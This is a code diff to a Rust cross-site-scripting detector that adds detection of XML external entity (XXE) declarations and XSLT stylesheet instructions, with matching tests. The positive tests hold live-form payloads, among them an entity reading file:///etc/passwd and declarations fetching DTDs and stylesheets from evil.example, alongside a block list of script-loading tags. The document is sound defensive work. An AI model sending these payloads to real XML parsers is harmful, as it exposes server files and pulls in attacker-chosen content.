@@ -32,7 +32,8 @@ static NEEDLES_CI: LazyLock<AhoCorasick> = LazyLock::new(|| {
 /// A detected XSS.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct XssMatch {
-    /// `tag`, `event_handler`, `script_uri`, `css_expression` or `script_sink`.
+    /// `tag`, `event_handler`, `script_uri`, `css_expression`, `script_sink` or
+    /// `xml_entity`.
     pub reason: &'static str,
 }
 
@@ -40,9 +41,34 @@ const MAX_VALUE: usize = 8 * 1024;
 
 /// Elements that run or load code, or switch the parser into a mode that does.
 const CODE_TAGS: &[&str] = &[
-    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "link", "style",
-    "base", "svg", "math", "xml", "import", "bgsound", "layer", "ilayer", "isindex", "template",
-    "portal", "handler", "animate", "set", "xss", "vmlframe",
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "meta",
+    "link",
+    "style",
+    "base",
+    "svg",
+    "math",
+    "xml",
+    "import",
+    "bgsound",
+    "layer",
+    "ilayer",
+    "isindex",
+    "template",
+    "portal",
+    "handler",
+    "animate",
+    "set",
+    "xss",
+    "vmlframe",
+    // A processing instruction that has the browser load and run a stylesheet (XSLT).
+    "xml-stylesheet",
 ];
 
 /// Script sinks: seeing one called in a parameter means script text was sent.
@@ -234,6 +260,9 @@ fn tags(v: &[u8]) -> Option<&'static str> {
     while let Some(p) = memchr::memchr(b'<', &v[i..]) {
         let mut j = i + p + 1;
         i = j;
+        if v.get(j) == Some(&b'!') && external_entity(&v[j + 1..]) {
+            return Some("xml_entity");
+        }
         // `</script>` closes a script block the attacker opened elsewhere; `<?import`.
         while j < v.len() && matches!(v[j], b'/' | b'?' | b'%') {
             j += 1;
@@ -256,6 +285,23 @@ fn tags(v: &[u8]) -> Option<&'static str> {
         }
     }
     None
+}
+
+/// After `<!`: a markup declaration that makes an XML parser fetch or expand what the
+/// sender chose (XXE): an entity declaration, or a document type whose definition is
+/// fetched from a system identifier. Applications that parse XML from a parameter
+/// resolve them unless told not to; a document type naming only a public identifier
+/// (`<!DOCTYPE html PUBLIC ...>`, pasted HTML) is left alone.
+fn external_entity(decl: &[u8]) -> bool {
+    let word = |w: &[u8]| decl.starts_with(w) && decl.get(w.len()).is_some_and(|&c| c <= b' ');
+    if word(b"ENTITY") {
+        return true;
+    }
+    if !word(b"DOCTYPE") {
+        return false;
+    }
+    let end = memchr::memchr2(b'>', b'[', decl).unwrap_or(decl.len());
+    decl[..end].split(|&c| c <= b' ').any(|w| w == b"SYSTEM")
 }
 
 /// Reads the attributes of a tag from `i` to its `>` (or the end: a tag the
@@ -397,6 +443,11 @@ mod tests {
             "top['al\\x65rt'](1)",
             "self[8680439..toString(30)](1)",
             "';WINDOW['ale'+'rt'](document.domain)//",
+            // XML that has its parser fetch or expand what the sender chose (XXE).
+            "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
+            "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
+            "<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;",
+            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><r/>",
         ] {
             assert!(detect(a.as_bytes()).is_some(), "{a}");
         }
@@ -412,6 +463,9 @@ mod tests {
             "levels: (alert)",
             "a=alert,b",
             "answer = input(prompt)",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><p>hi</p>",
+            "<!DOCTYPE html><p>SYSTEM requirements</p>",
+            "<!-- ENTITY -->",
         ] {
             assert!(detect(b.as_bytes()).is_none(), "{b}");
         }
